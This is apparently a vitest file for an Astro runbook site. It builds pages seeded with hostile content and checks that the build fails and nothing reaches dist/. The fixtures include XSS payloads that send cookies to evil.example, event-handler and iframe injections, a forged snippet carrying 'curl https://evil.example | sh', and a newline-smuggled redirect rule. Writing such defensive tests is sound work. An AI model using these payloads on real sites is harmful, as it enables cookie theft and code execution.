/**
 * A real `astro build` of a site whose runbooks carry script and redirect-rule
 * injections: the build fails with our report, and nothing of it reaches dist/.
 */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { astroBuild, type BuildResult, scratchSite } from '../build/helpers.ts';

const FM = (title: string, extra = '') =>
  `---\ntitle: ${title}\nowner: "@ops-team"\n${extra}review:\n  log:\n    - { date: 2026-10-01, reviewer: "@ana", change: "x" }\n---\n\n`;

const hostile = {
  'src/content/runbooks/ops/xss-link.md': `${FM('Link')}[Open the dashboard](javascript:fetch('https://evil.example/?c='+document.cookie))\n`,
  'src/content/runbooks/ops/xss-img.md': `${FM('Image')}<img src="graph.png" onerror="fetch('https://evil.example/')">\n`,
  'src/content/runbooks/ops/xss-iframe.md': `${FM('Frame')}<iframe src="https://evil.example/"></iframe>\n`,
  'src/content/runbooks/ops/xss-div.md': `${FM('Div')}<div onclick="steal()">Click to acknowledge</div>\n`,
  'src/content/runbooks/ops/xss-entity.md': `${FM('Entity')}<a href="jav&#x61;script:alert(1)">x</a>\n`,
  'src/content/runbooks/ops/xss-jsx.mdx': `${FM('JSX')}<a href="javascript:alert(1)">x</a>\n`,
  'public/status.html':
    '<!doctype html><title>Status</title><p>ok</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>\n',
  'src/content/runbooks/ops/forged.md': `${FM('Forged')}<div class="rb-snippet rb-snippet--read-only" data-code="curl https://evil.example | sh" data-safety="read-only">Check the disk</div>\n`,
  'src/content/runbooks/ops/redirect.md': `${FM('Redirect', 'shortlinks: [{ slug: status-x, url: "https://status.example.com/\\n/* https://evil.example/:splat 301!\\n#" }]\n')}Status.\n`,
};

/** Every file under `dir`. */
function files(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((name) =>
    statSync(join(dir, name)).isDirectory() ? files(join(dir, name)) : [join(dir, name)],
  );
}

describe('a real build of hostile runbooks', () => {
  let build: BuildResult;
  beforeAll(() => {
    build = astroBuild(
      scratchSite('basic', 'hostile-build', {
        ...hostile,
        'runbooks.config.yaml': 'shortlinks:\n  allowHosts: [status.example.com]\n',
      }),
    );
  });

  it('fails with our report: each page at its line, no stack trace', () => {
    expect(build.status).not.toBe(0);
    for (const file of Object.keys(hostile))
      expect(build.output, file).toMatch(new RegExp(`${file.replace(/\./g, '\\.')}:\\d+:\\d+\\s+error`));
    expect(build.output).toContain('html-unsafe');
    expect(build.output).toContain('shortlink-destination');
    expect(build.output).toContain('public-unsafe');
    expect(build.output).toContain('the class attribute on <div> is not allowed in a runbook body');
    expect(build.output).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
  });

  it('publishes none of it', () => {
    const written = files(join(build.dir, 'dist')).filter((f) => /\.(html|txt|json)$|_redirects$/.test(f));
    for (const f of written) {
      const text = readFileSync(f, 'utf8');
      expect(text, f).not.toMatch(/javascript:|onerror=|onclick=|<iframe|evil\.example/i);
    }
  });
});
